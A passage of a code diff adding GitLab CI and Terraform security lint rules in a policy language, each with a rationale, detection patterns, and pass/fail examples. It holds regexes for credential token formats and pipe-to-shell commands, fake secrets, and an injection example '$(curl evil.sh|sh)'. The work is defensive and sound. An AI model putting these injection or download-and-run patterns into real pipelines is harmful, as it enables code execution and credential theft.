+          Add `rules: [{if: '$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH'}]` (or `$CI_COMMIT_TAG`) to the job
+          or its template, and make the environment a protected environment with required approvals.
+        """
+        param production: string = "(?i)(^|[/_-])(prod|production|live)([/_-]|$)"
+        param deploy_stage: string = "(?i)^(deploy|production)([/_-].*)?$"
+        param restricted: string = "(?i)(\\$CI_COMMIT_(BRANCH|REF_NAME)\\s*==\\s*\\$CI_DEFAULT_BRANCH|\\$CI_DEFAULT_BRANCH\\s*==\\s*\\$CI_COMMIT_(BRANCH|REF_NAME)|\\$CI_COMMIT_REF_PROTECTED\\s*==\\s*[\"']?true|\\$CI_COMMIT_TAG\\b(?!\\s*==\\s*(null|\"\"|''))|\\$CI_COMMIT_(BRANCH|REF_NAME)\\s*(==|=~)\\s*[\"'/]\\^?(main|master|production|release|stable))"
+        param restricted_only: string = "^(main|master|production|stable|tags|release.*|/.+/)$"
+
+        for j in gitlab.job
+        let env = to_string(default(j.environment_name, ""))
+        when env matches param.production or (env == "" and to_string(j.stage) matches param.deploy_stage)
+        let runs = filter(r in j.rules_list, to_string(default(r.when, "")) != "never")
+        let loose = filter(r in runs, not (exists(r["if"])
+          and all(part in split(to_string(r["if"]), "||"), part matches param.restricted)))
+        let only = default(j.only.refs, j.only)
+        let only_ok = count(default(only, [])) > 0 and all(o in only, to_string(o) matches param.restricted_only)
+        require count(j.rules_list) > 0 or only_ok
+          else "deploy job '${j.name}' (environment '${default(j.environment_name, "none")}', stage '${j.stage}') has no rules limiting it to the default branch, protected refs or tags: it runs for every branch and merge request"
+        require count(loose) == 0
+          else "a rule of deploy job '${j.name}' (environment '${default(j.environment_name, "none")}', stage '${j.stage}') lets it run for branches and merge requests: '${default(first(loose)["if"], "no if:")}' does not require the default branch, a protected ref or a tag" at default(first(loose)["if"], first(loose))
+
+        example pass """
+          deploy-prod:
+            stage: deploy
+            environment: production
+            rules:
+              - if: $CI_PIPELINE_SOURCE == "merge_request_event"
+                when: never
+              - if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH
+                when: manual
+            script: [./deploy.sh]
+          deploy-review:
+            stage: deploy
+            environment: review/$CI_COMMIT_REF_SLUG
+            script: [./review.sh]
+          release:
+            stage: deploy
+            only: [tags]
+            script: [./release.sh]
+        """
+        example fail """
+          deploy-prod:
+            stage: deploy
+            environment:
+              name: production
+              url: https://example.com
+            rules:
+              - if: ↓$CI_MERGE_REQUEST_IID
+              - if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH
+            script: [./deploy.sh]
+          ↓publish:
+            stage: deploy
+            script: [./publish.sh]
+        """ expect "a rule of deploy job 'deploy-prod' (environment 'production', stage 'deploy') lets it run for branches and merge requests: '$CI_MERGE_REQUEST_IID' does not require" expect "deploy job 'publish' (environment 'none', stage 'deploy') has no rules"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/hardcoded_secret_in_global_variables.plumb",
+      text: #"""
+      rule hardcoded_secret_in_global_variables {
+        title "GitLab pipelines do not define literal secrets in global variables"
+        severity high
+        category security
+        tags [gitlab-ci, secrets, credentials]
+        rationale """
+          Global `variables:` reach every job of the pipeline, and the file that defines them is readable
+          by everyone who can read the repository, stays in its history and in every fork; values
+          defined there are not masked in job logs. Reported: values with the prefix of a known credential
+          format (`glpat-`, `glrt-`, `GR1348941`, `ghp_`, `AKIA`, PEM private keys, …) and literal values
+          of at least 8 characters mixing letters and digits in variables named like a secret.
+        """
+        remediation "Store the value as a masked and protected CI/CD variable of the project or group, reference it as `$NAME`, and revoke the exposed value."
+        param secret_names: string = "(?i)(passw(or)?d|passphrase|secret|token|api[_-]?key|access[_-]?key|private[_-]?key|signing[_-]?key|credentials?)"
+        param not_secret_names: string = "(?i)[_-](file|path|name|url|uri|type|format|id|user|username|env|header|scope|endpoint|dir|length|ttl)s?$"
+        param known_prefixes: string = "(\\bgl(pat|dt|rt|cbt|ptt|oat|ft|imt|agent)-[A-Za-z0-9_-]{20,}|\\bGR1348941[A-Za-z0-9_-]{20,}|gh[pousr]_[A-Za-z0-9]{36}|github_pat_[A-Za-z0-9_]{60,}|\\b(AKIA|ASIA)[0-9A-Z]{16}\\b|xox[abprs]-[0-9A-Za-z-]{10,}|sk_live_[0-9A-Za-z]{24,}|\\bnpm_[A-Za-z0-9]{36}\\b|pypi-AgEIcHlwaS5vcmc[A-Za-z0-9_-]{50,}|-----BEGIN ([A-Z]+ )?PRIVATE KEY-----)"
+
+        for p in gitlab.pipeline
+        let literal = "^(?![\\s\\S]*\\$)(?=.*[0-9])(?=.*[A-Za-z])(?![/~.]|https?:)(?!(?i)(changeme|example|dummy|placeholder|test|fake|sample|xxx|redacted))\\S{8,}$"
+        let hits = filter(k in keys(default(p.variables, {})),
+          to_string(default(p.variables[k].value, p.variables[k])) matches param.known_prefixes
+          or (k matches param.secret_names and not (k matches param.not_secret_names)
+              and to_string(default(p.variables[k].value, p.variables[k])) matches literal))
+        require count(hits) == 0
+          else "global variable '${first(hits)}' holds a literal secret (${count(hits)} such variable(s))" at default(p.variables[first(hits)].value, p.variables[first(hits)])
+
+        example pass """
+          variables:
+            DOCKER_TLS_CERTDIR: "/certs"
+            REGISTRY_PASSWORD: $CI_REGISTRY_PASSWORD
+          build:
+            script: [make]
+        """
+        example fail """
+          variables:
+            AWS_ACCESS_KEY_ID: ↓AKIAIOSFODNN7EXAMPLE
+            AWS_SECRET_ACCESS_KEY: wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY
+          build:
+            script: [make]
+        """ expect "global variable 'AWS_ACCESS_KEY_ID' holds a literal secret (2 such variable(s))"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/hardcoded_secret_in_job.plumb",
+      text: #"""
+      rule hardcoded_secret_in_job {
+        title "GitLab jobs do not contain literal secrets"
+        severity high
+        category security
+        tags [gitlab-ci, secrets, credentials]
+        rationale """
+          A token, password or key written in a job's `variables:` or `script:` is readable by everyone
+          who can read the repository (and every fork and clone), stays in its history, and is not
+          masked in job logs, unlike a masked CI/CD variable. Reported: values with the prefix of a known
+          credential format (GitLab `glpat-`/`gldt-`/`glrt-`/`glptt-`, runner registration `GR1348941`,
+          GitHub `ghp_`/`github_pat_`, AWS `AKIA`, Slack, Stripe, npm, PyPI, PEM private keys) anywhere,
+          and literal values of at least 8 characters mixing letters and digits in variables named like a
+          secret (`*PASSWORD*`, `*TOKEN*`, `*SECRET*`, `*API_KEY*`, …). References (`$VAULT_TOKEN`)
+          are not literals. Variables inherited from templates (`extends`) are reported on each job.
+        """
+        remediation "Store the value as a masked and protected CI/CD variable (or fetch it with `secrets:` from Vault, or use `id_tokens:`), reference it as `$NAME`, and revoke the exposed value."
+        param secret_names: string = "(?i)(passw(or)?d|passphrase|secret|token|api[_-]?key|access[_-]?key|private[_-]?key|signing[_-]?key|credentials?)"
+        param not_secret_names: string = "(?i)[_-](file|path|name|url|uri|type|format|id|user|username|env|header|scope|endpoint|dir|length|ttl)s?$"
+        param known_prefixes: string = "(\\bgl(pat|dt|rt|cbt|ptt|oat|ft|imt|agent)-[A-Za-z0-9_-]{20,}|\\bGR1348941[A-Za-z0-9_-]{20,}|gh[pousr]_[A-Za-z0-9]{36}|github_pat_[A-Za-z0-9_]{60,}|\\b(AKIA|ASIA)[0-9A-Z]{16}\\b|xox[abprs]-[0-9A-Za-z-]{10,}|sk_live_[0-9A-Za-z]{24,}|\\bnpm_[A-Za-z0-9]{36}\\b|pypi-AgEIcHlwaS5vcmc[A-Za-z0-9_-]{50,}|-----BEGIN ([A-Z]+ )?PRIVATE KEY-----)"
+
+        for j in gitlab.job
+        let literal = "^(?![\\s\\S]*\\$)(?=.*[0-9])(?=.*[A-Za-z])(?![/~.]|https?:)(?!(?i)(changeme|example|dummy|placeholder|test|fake|sample|xxx|redacted))\\S{8,}$"
+        let hits = filter(k in keys(default(j.variables, {})),
+          to_string(default(j.variables[k].value, j.variables[k])) matches param.known_prefixes
+          or (k matches param.secret_names and not (k matches param.not_secret_names)
+              and to_string(default(j.variables[k].value, j.variables[k])) matches literal))
+        let lines = filter(l in j.script_lines, to_string(l) matches param.known_prefixes)
+        require count(hits) == 0
+          else "variable '${first(hits)}' of job '${j.name}' holds a literal secret (${count(hits)} such variable(s))" at default(j.variables[first(hits)].value, j.variables[first(hits)])
+        require count(lines) == 0
+          else "a script line of job '${j.name}' contains a credential with a known token format" at first(lines)
+
+        example pass """
+          deploy:
+            variables:
+              DB_PASSWORD: $PROD_DB_PASSWORD
+              POSTGRES_PASSWORD: postgres
+              TOKEN_URL: https://auth.example.com/token
+              API_KEY_FILE: /run/secrets/api_key
+            script:
+              - curl --header "PRIVATE-TOKEN: $API_TOKEN" https://gitlab.example.com/api/v4/projects
+        """
+        example fail """
+          deploy:
+            variables:
+              API_TOKEN: ↓glpat-AbCdEfGhIjKlMnOpQrSt
+              SERVICE_PASSWORD:
+                value: Tr0ub4dor-and-3
+                description: service account
+            script:
+              - ↓curl -u admin:xoxb-123456789012-abcdefghijkl https://hooks.example.com
+        """ expect "variable 'API_TOKEN' of job 'deploy' holds a literal secret (2 such variable(s))" expect "a script line of job 'deploy' contains a credential"
+      }
+
+      """#),
+    PolicySource(
       path: "rules/security/gitlab/image_pinned_by_digest.plumb",
       text: #"""
       rule image_pinned_by_digest {
         title "GitLab jobs run images pinned by digest"
         severity medium
         category security
-        tags [gitlab-ci, supply-chain]
+        tags [gitlab-ci, supply-chain, containers]
         rationale """
           An image tag, `latest` above all, can be re-pushed: the job then runs code nobody reviewed,
           with the pipeline's variables and deploy credentials. A `@sha256:` digest names exactly one
-          image.
+          image. An image whose whole name comes from a variable the file does not define (a project or
+          predefined variable) cannot be judged and is not reported; a tag built from variables
+          (`ruby:${RUBY_VERSION}`) is still a tag.
         """
-        remediation "Reference the image by digest: `image: registry/name@sha256:…` (keep the tag in a comment)."
+        remediation "Reference the image by digest: `image: registry/name:1.2.3@sha256:…` (Renovate keeps such pins up to date)."
 
         for j in gitlab.job
-        when exists(j.image_ref)
-        require j.image_ref.tag != "latest" and (exists(j.image_ref.tag) or exists(j.image_ref.digest))
-          else "job '${j.name}' runs '${j.image_ref.raw}', a moving 'latest' image" at j.image_ref
-        require exists(j.image_ref.digest)
-          else "job '${j.name}' runs '${j.image_ref.raw}' by tag, not by digest" at j.image_ref
+        let img = j.image_ref
+        let shown = default(img.expanded, img.raw)
+        when exists(img) and not (img.dynamic and not exists(img.tag) and not exists(img.digest) and img.name matches "\\$[^/]*$")
+        let moving = not exists(img.digest) and default(img.tag, "") in ["", "latest"]
+        require not moving
+          else "job '${j.name}' runs '${shown}', a moving 'latest' image" at img
+        require moving or exists(img.digest)
+          else "job '${j.name}' runs '${shown}' by tag, not by digest" at img
 
         example pass """
           build:
-            image: ruby@sha256:4b7e0c1d2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c
+            image: ruby:3.3.6@sha256:4b7e0c1d2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c
             script: [make]
         """
-        example fail """
+        example pass "an image named by a variable defined elsewhere" """
+          lint:
+            image: $LINT_IMAGE
+            script: [make lint]
+        """
+        example fail "latest" """
           build:
             image: ↓docker:latest
             script: [make]
-        """ expect "job 'build' runs 'docker:latest', a moving 'latest' image" expect "by tag, not by digest"
+        """ expect "job 'build' runs 'docker:latest', a moving 'latest' image"
+        example fail "tag" """
+          variables:
+            RUBY_VERSION: "3.3"
+          test:
+            image: ↓ruby:${RUBY_VERSION}-alpine
+            script: [rake]
+        """ expect "job 'test' runs 'ruby:3.3-alpine' by tag, not by digest"
       }
 
       """#),
     PolicySource(
-      path: "rules/security/terraform/security_group_admin_ports_open.plumb",
+      path: "rules/security/gitlab/include_ref_not_pinned.plumb",
+      text: #"""
+      rule include_ref_not_pinned {
+        title "Project and component includes are pinned to a fixed version"
+        severity medium
+        category security
+        tags [gitlab-ci, supply-chain, includes]
+        rationale """
+          `include: project:` without `ref:` reads the other project's default branch, and a branch
+          `ref:` (or a component at `@main` or `@~latest`) follows whatever is pushed there next: anyone
+          who can push to that project changes the jobs of every pipeline that includes it, with your
+          variables and credentials, without a change in your repository. A release tag is fixed unless
+          it is deleted and re-created; a full commit SHA cannot change at all (set `require_sha`).
+        """
+        remediation "Set `ref:` to a release tag or, better, a full commit SHA (`ref: 4f2c9e1d…`), and pin components to a released version (`@1.4.2`) or a SHA instead of a branch or `~latest`."
+        param require_sha: bool = false
+
+        for p in gitlab.pipeline
+        let version = "^v?[0-9]+(\\.[0-9]+)*([-+][0-9A-Za-z.-]+)?$"
+        let sha = "^[0-9a-f]{40}$"
+        let project_bad = filter(i in p.includes, i.kind == "project"
+          and not (to_string(default(i.ref, "")) matches sha)
+          and (param.require_sha or not (to_string(default(i.ref, "")) matches version)))
+        let component_bad = filter(i in p.includes, i.kind == "component"
+          and not (last(split(to_string(i.value), "@")) matches sha)
+          and (param.require_sha or not (contains(to_string(i.value), "@") and last(split(to_string(i.value), "@")) matches version)))
+        require count(project_bad) == 0
+          else "the pipeline includes '${first(project_bad).file}' from project '${first(project_bad).value}' at ${default(first(project_bad).ref, "its default branch")}, which can change under it (${count(project_bad)} such include(s))" at first(project_bad)
+        require count(component_bad) == 0
+          else "the pipeline includes component '${first(component_bad).value}', whose version can change under it (${count(component_bad)} such include(s))" at first(component_bad)
+
+        example pass """
+          include:
+            - project: acme/ci-templates
+              ref: 2.4.1
+              file: /templates/build.yml
+            - project: acme/ci-templates
+              ref: 4f2c9e1d8b7a6c5e4d3f2a1b0c9d8e7f6a5b4c3d
+              file: /templates/deploy.yml
+            - component: $CI_SERVER_FQDN/acme/components/lint@1.4.2
+          build:
+            script: [make]
+        """
+        example fail """
+          include:
+            - ↓project: acme/ci-templates
+              file: /templates/build.yml
+            - ↓component: $CI_SERVER_FQDN/acme/components/lint@~latest
+            - component: $CI_SERVER_FQDN/acme/components/scan@main
+          build:
+            script: [make]
+        """ expect "the pipeline includes '/templates/build.yml' from project 'acme/ci-templates' at its default branch" expect "component '$CI_SERVER_FQDN/acme/components/lint@~latest', whose version can change under it (2 such include(s))"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/merge_request_variable_injection.plumb",
+      text: #"""
+      rule merge_request_variable_injection {
+        title "Merge request and commit text is not evaluated as code"
+        severity high
+        category security
+        tags [gitlab-ci, injection]
+        rationale """
+          Anyone who can push a branch or open a merge request (from a fork too, when the project runs
+          fork pipelines) chooses `$CI_MERGE_REQUEST_TITLE`, `$CI_MERGE_REQUEST_DESCRIPTION`,
+          `$CI_COMMIT_MESSAGE`, `$CI_COMMIT_TITLE`, and the branch names in `$CI_COMMIT_BRANCH`,
+          `$CI_COMMIT_REF_NAME` and `$CI_MERGE_REQUEST_SOURCE_BRANCH_NAME`. As a quoted argument they
+          are data; passed to `eval`, `sh -c`, `bash -c`, `python -c` and the like they are parsed as
+          code, so a title such as `$(curl evil.sh|sh)` runs with the job's token and variables. The same
+          happens when `$[[ inputs.x | expand_vars ]]` pastes a variable's value into the script text.
+        """
+        remediation "Do not build code from these values: pass them as quoted arguments (`./check-title.sh \"$CI_MERGE_REQUEST_TITLE\"`), validate them against a strict pattern, or use `$CI_COMMIT_REF_SLUG`; drop `expand_vars` from inputs used in scripts."
+        param untrusted: string = "\\$\\{?(CI_MERGE_REQUEST_TITLE|CI_MERGE_REQUEST_DESCRIPTION|CI_COMMIT_MESSAGE|CI_COMMIT_TITLE|CI_COMMIT_DESCRIPTION|CI_COMMIT_TAG_MESSAGE|CI_COMMIT_BRANCH|CI_COMMIT_REF_NAME|CI_COMMIT_AUTHOR|CI_MERGE_REQUEST_SOURCE_BRANCH_NAME|CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME)\\b"
+        param eval_like: string = "(\\beval\\b|\\b(ba|z|da|k)?sh\\s+(-\\w+\\s+)*-c\\b|\\b(python[0-9.]*|perl|ruby|node|php)\\s+(-\\w+\\s+)*-[ce]\\b|\\bsource\\s+<\\(|\\bxargs\\b.*\\b(ba|z)?sh\\b)"
+
+        for j in gitlab.job
+        let evaluated = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.eval_like and x matches param.untrusted))
+        let expanded = filter(l in j.script_lines, to_string(l) matches "\\$\\[\\[\\s*inputs\\.[A-Za-z0-9_-]+\\s*\\|[^\\]]*\\bexpand_vars\\b")
+        require count(evaluated) == 0
+          else "job '${j.name}' evaluates text chosen by whoever pushes or opens the merge request: '${trim(first(filter(x in split(to_string(first(evaluated)), "\n"), x matches param.untrusted)))}'" at first(evaluated)
+        require count(expanded) == 0
+          else "job '${j.name}' pastes an input with 'expand_vars' into its script; variables in the input's value are expanded into code" at first(expanded)
+
+        example pass """
+          lint-title:
+            rules:
+              - if: $CI_PIPELINE_SOURCE == "merge_request_event"
+            script:
+              - ./check-title.sh "$CI_MERGE_REQUEST_TITLE"
+              - echo "Building $CI_COMMIT_REF_SLUG"
+              - sh -c './build.sh --fast'
+        """
+        example fail """
+          lint-title:
+            script:
+              - ↓eval "echo Checking $CI_MERGE_REQUEST_TITLE"
+          notify:
+            script:
+              - ↓sh -c "notify --branch $CI_COMMIT_BRANCH"
+        """ expect "job 'lint-title' evaluates text chosen by whoever pushes or opens the merge request: 'eval \"echo Checking $CI_MERGE_REQUEST_TITLE\"'" expect "job 'notify' evaluates"
+        example fail "expand_vars" {
+          file ".gitlab-ci.yml" """
+            spec:
+              inputs:
+                message:
+                  default: $CI_COMMIT_MESSAGE
+            ---
+            announce:
+              script:
+                - ↓echo "$[[ inputs.message | expand_vars ]]"
+          """
+        } expect "pastes an input with 'expand_vars' into its script"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/remote_include_without_integrity.plumb",
+      text: #"""
+      rule remote_include_without_integrity {
+        title "Remote includes are checked with an integrity hash"
+        severity high
+        category security
+        tags [gitlab-ci, supply-chain, includes]
+        rationale """
+          `include: remote:` fetches pipeline configuration from a URL each time a pipeline is created.
+          Whoever controls that server (or its DNS, or the network path for `http://`) decides which
+          jobs run, with which images and scripts, and with all your CI/CD variables and deploy
+          credentials; the change leaves no trace in your repository. `integrity: sha256-…` (GitLab
+          17.9+) makes GitLab refuse content that differs from what you reviewed.
+        """
+        remediation "Add `integrity: sha256-<base64 digest>` to the include (`curl -s URL | openssl dgst -sha256 -binary | base64`), use `https://`, or vendor the file and include it with `local:`."
+
+        for p in gitlab.pipeline
+        let unchecked = filter(i in p.includes, i.kind == "remote" and not exists(i.integrity))
+        require count(unchecked) == 0
+          else "the pipeline includes '${first(unchecked).value}' without an integrity hash (${count(unchecked)} such include(s))" at first(unchecked)
+
+        example pass """
+          include:
+            - remote: https://example.com/ci/lint.yml
+              integrity: sha256-L3/GAoKaw0Arw6hDCKeKQlV1QPEgHYxGBHsH4zG1IY8=
+            - local: ci/build.yml
+          lint:
+            extends: .lint
+            script: [make lint]
+        """
+        example fail """
+          include:
+            - ↓remote: https://example.com/ci/lint.yml
+            - https://example.com/ci/deploy.yml
+          lint:
+            script: [make lint]
+        """ expect "the pipeline includes 'https://example.com/ci/lint.yml' without an integrity hash (2 such include(s))"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/script_download_piped_to_shell.plumb",
+      text: #"""
+      rule script_download_piped_to_shell {
+        title "GitLab job scripts do not execute scripts downloaded at run time"
+        severity medium
+        category security
+        tags [gitlab-ci, supply-chain]
+        rationale """
+          `curl … | sh`, `bash <(wget …)` or `iex (iwr …)` run whatever the server returns at that
+          moment, with the job's CI_JOB_TOKEN, variables and deploy credentials, without any check: a
+          compromised download site, CDN or DNS entry, or a changed install script runs its code in your
+          pipeline, and nothing in the repository records which code ran.
+        """
+        remediation "Download to a file, verify its SHA-256 (`echo \"<sha256>  install.sh\" | sha256sum -c -`), then run it; or bake the tool into a digest-pinned job image."
+        param pipe_to_shell: string = "(?i)(\\b(curl|wget)\\b[^|;&]*\\|\\s*(sudo\\s+(-\\S+\\s+)*)?((ba|z|da|k|fi)?sh|python[0-9.]*|perl|ruby|node)\\b|\\b(ba|z)?sh\\s+(-\\S+\\s+)*<\\(\\s*(curl|wget)\\b|\\b(ba|z)?sh\\s+-c\\s+[\"']?\\$\\(\\s*(curl|wget)\\b|\\b(iex|invoke-expression)\\b.*\\b(downloadstring|iwr|irm|invoke-webrequest|invoke-restmethod)\\b|\\b(iwr|irm|invoke-webrequest|invoke-restmethod)\\b[^|]*\\|\\s*(iex|invoke-expression)\\b)"
+
+        for j in gitlab.job
+        let entries = filter(l in j.script_lines, any(x in split(to_string(l), "\n"),
+          x matches param.pipe_to_shell and not (x matches "raw\\.githubusercontent\\.com/[^/\\s]+/[^/\\s]+/[0-9a-f]{40}/")))
+        let line = first(filter(x in split(to_string(first(entries)), "\n"), x matches param.pipe_to_shell))
+        require count(entries) == 0
+          else "job '${j.name}' runs a downloaded script without verifying it: '${trim(line)}'" at first(entries)
+
+        example pass """
+          setup:
+            script:
+              - curl -fsSLo install.sh https://example.com/install.sh
+              - echo "4f2c9e1d8b7a6c5e4d3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d  install.sh" | sha256sum -c -
+              - sh install.sh
+              - curl -s "$CI_API_V4_URL/projects/$CI_PROJECT_ID" | jq .
+        """
+        example fail """
+          setup:
+            before_script:
+              - apt-get update
+              - ↓curl -sSL https://install.python-poetry.org | python3 -
+            script:
+              - make
+        """ expect "job 'setup' runs a downloaded script without verifying it: 'curl -sSL https://install.python-poetry.org | python3 -'"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/services_pinned_by_digest.plumb",
+      text: #"""
+      rule services_pinned_by_digest {
+        title "GitLab service containers are pinned by digest"
+        severity medium
+        category security
+        tags [gitlab-ci, supply-chain, containers]
+        rationale """
+          `services:` containers (databases, `docker:dind`, mock servers) run next to the job, on its
+          network, and `docker:dind` runs privileged with access to everything the job builds and
+          pushes. A tag (above all `latest` or none) can be re-pushed by whoever controls the image; a
+          `@sha256:` digest names exactly one image. A service whose whole name comes from a variable the
+          file does not define cannot be judged and is not reported.
+        """
+        remediation "Reference each service image by digest: `services: [docker:27.3.1-dind@sha256:…]`."
+
+        for j in gitlab.job
+        let judged = filter(s in j.services_refs, not (s.dynamic and not exists(s.tag) and not exists(s.digest) and s.name matches "\\$[^/]*$"))
+        let moving = filter(s in judged, not exists(s.digest) and default(s.tag, "") in ["", "latest"])
+        let tagged = filter(s in judged, not exists(s.digest) and default(s.tag, "") not in ["", "latest"])
+        require count(moving) == 0
+          else "job '${j.name}' starts service '${default(first(moving).expanded, first(moving).raw)}', a moving 'latest' image (${count(moving)} such service(s))" at first(moving)
+        require count(tagged) == 0
+          else "job '${j.name}' starts service '${default(first(tagged).expanded, first(tagged).raw)}' by tag, not by digest (${count(tagged)} such service(s))" at first(tagged)
+
+        example pass """
+          test:
+            image: ruby:3.3.6@sha256:4b7e0c1d2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c
+            services:
+              - name: postgres:16.4@sha256:1f2e3d4c5b6a79880716253443526170f8e9d0c1b2a3f4e5d6c7b8a9f0e1d2c3
+                alias: db
+            script: [rake]
+        """
+        example fail """
+          build:
+            image: docker:27.3.1@sha256:2c9e8d7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c9d
+            services:
+              - ↓docker:dind
+              - name: redis:7.4
+            script: [docker build .]
+        """ expect "job 'build' starts service 'docker:dind' by tag, not by digest" expect "(2 such service(s))"
+        example fail "latest" """
+          test:
+            services: [↓postgres]
+            script: [rake]
+        """ expect "job 'test' starts service 'postgres', a moving 'latest' image"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/cloudfront_allows_http.plumb",
+      text: #"""
+      rule cloudfront_allows_http {
+        title "CloudFront distributions do not serve viewers over plain HTTP"
+        severity high
+        category security
+        tags [terraform, aws, cloudfront, tls]
+        rationale """
+          `viewer_protocol_policy = "allow-all"` serves content and accepts requests over plain HTTP:
+          cookies, tokens and form posts travel in clear text, and an attacker on the network can rewrite
+          pages and scripts in transit.
+        """
+        remediation "Set `viewer_protocol_policy = \"redirect-to-https\"` (or `\"https-only\"`) in the default and every ordered cache behavior."
+
+        for d in terraform.resource("aws_cloudfront_distribution")
+        when not is_null(d.after)
+        let behaviors = flatten([default(d.after.default_cache_behavior, []), default(d.after.ordered_cache_behavior, [])])
+        let plain = filter(b in behaviors, b.viewer_protocol_policy == "allow-all")
+        require count(plain) == 0
+          else "'${d.address}' serves ${default(first(plain).path_pattern, "the default behavior")} over plain HTTP (viewer_protocol_policy 'allow-all')" at first(plain).viewer_protocol_policy
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_cloudfront_distribution.site", "mode": "managed", "type": "aws_cloudfront_distribution", "name": "site",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
+               "after": {"default_cache_behavior": [{"viewer_protocol_policy": "redirect-to-https"}],
+                         "ordered_cache_behavior": [{"path_pattern": "/api/*", "viewer_protocol_policy": "https-only"}]}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_cloudfront_distribution.site", "mode": "managed", "type": "aws_cloudfront_distribution", "name": "site",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
+               "after": {"default_cache_behavior": [{"viewer_protocol_policy": ↓"allow-all"}], "ordered_cache_behavior": []}}}]}
+        """ expect "'aws_cloudfront_distribution.site' serves the default behavior over plain HTTP (viewer_protocol_policy 'allow-all')"
+        example indeterminate "policy from a value known after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_cloudfront_distribution.site", "mode": "managed", "type": "aws_cloudfront_distribution", "name": "site",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"default_cache_behavior": [{"viewer_protocol_policy": true}]},
+               "after": {"default_cache_behavior": [{}], "ordered_cache_behavior": []}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/cloudfront_outdated_tls.plumb",
+      text: #"""
+      rule cloudfront_outdated_tls {
+        title "CloudFront distributions require a modern TLS version"
+        severity medium
+        category security
+        tags [terraform, aws, cloudfront, tls]
+        rationale """
+          `minimum_protocol_version` below TLSv1.2_2021 lets viewers negotiate TLS 1.0 or 1.1, or TLS 1.2
+          with weak CBC and SHA-1 cipher suites; an active attacker can force the weakest option both
+          sides accept. PCI DSS and most security baselines forbid them.
+        """
+        remediation """
+          Set `viewer_certificate { minimum_protocol_version = "TLSv1.2_2021" }` (or a later policy).
+          Distributions that use the default *.cloudfront.net certificate cannot set it and are not
+          judged: give them a custom domain and an ACM certificate to control TLS.
+        """
+        param allowed_versions: list<string> = ["TLSv1.2_2021", "TLSv1.2_2025", "TLSv1.3_2025"]
+
+        for d in terraform.resource("aws_cloudfront_distribution")
+        when not is_null(d.after)
+        let cert = first(d.after.viewer_certificate)
+        when cert.cloudfront_default_certificate != true
+        require cert.minimum_protocol_version in param.allowed_versions
+          else "'${d.address}' accepts viewers down to '${cert.minimum_protocol_version}', below ${param.allowed_versions}" at cert.minimum_protocol_version
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_cloudfront_distribution.site", "mode": "managed", "type": "aws_cloudfront_distribution", "name": "site",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
+               "after": {"viewer_certificate": [{"acm_certificate_arn": "arn:aws:acm:us-east-1:111122223333:certificate/abc", "cloudfront_default_certificate": false, "minimum_protocol_version": "TLSv1.2_2021", "ssl_support_method": "sni-only"}]}}},
+            {"address": "aws_cloudfront_distribution.default", "mode": "managed", "type": "aws_cloudfront_distribution", "name": "default",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
+               "after": {"viewer_certificate": [{"cloudfront_default_certificate": true, "minimum_protocol_version": "TLSv1"}]}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_cloudfront_distribution.site", "mode": "managed", "type": "aws_cloudfront_distribution", "name": "site",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
+               "after": {"viewer_certificate": [{"acm_certificate_arn": "arn:aws:acm:us-east-1:111122223333:certificate/abc", "cloudfront_default_certificate": false, "minimum_protocol_version": ↓"TLSv1.1_2016", "ssl_support_method": "sni-only"}]}}}]}
+        """ expect "'aws_cloudfront_distribution.site' accepts viewers down to 'TLSv1.1_2016'"
+        example indeterminate "certificate from a value known after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_cloudfront_distribution.site", "mode": "managed", "type": "aws_cloudfront_distribution", "name": "site",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"viewer_certificate": [{"minimum_protocol_version": true}]},
+               "after": {"viewer_certificate": [{"cloudfront_default_certificate": false}]}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/cloudtrail_log_file_validation_disabled.plumb",
+      text: #"""
+      rule cloudtrail_log_file_validation_disabled {
+        title "CloudTrail trails validate their log files"
+        severity medium
+        category security
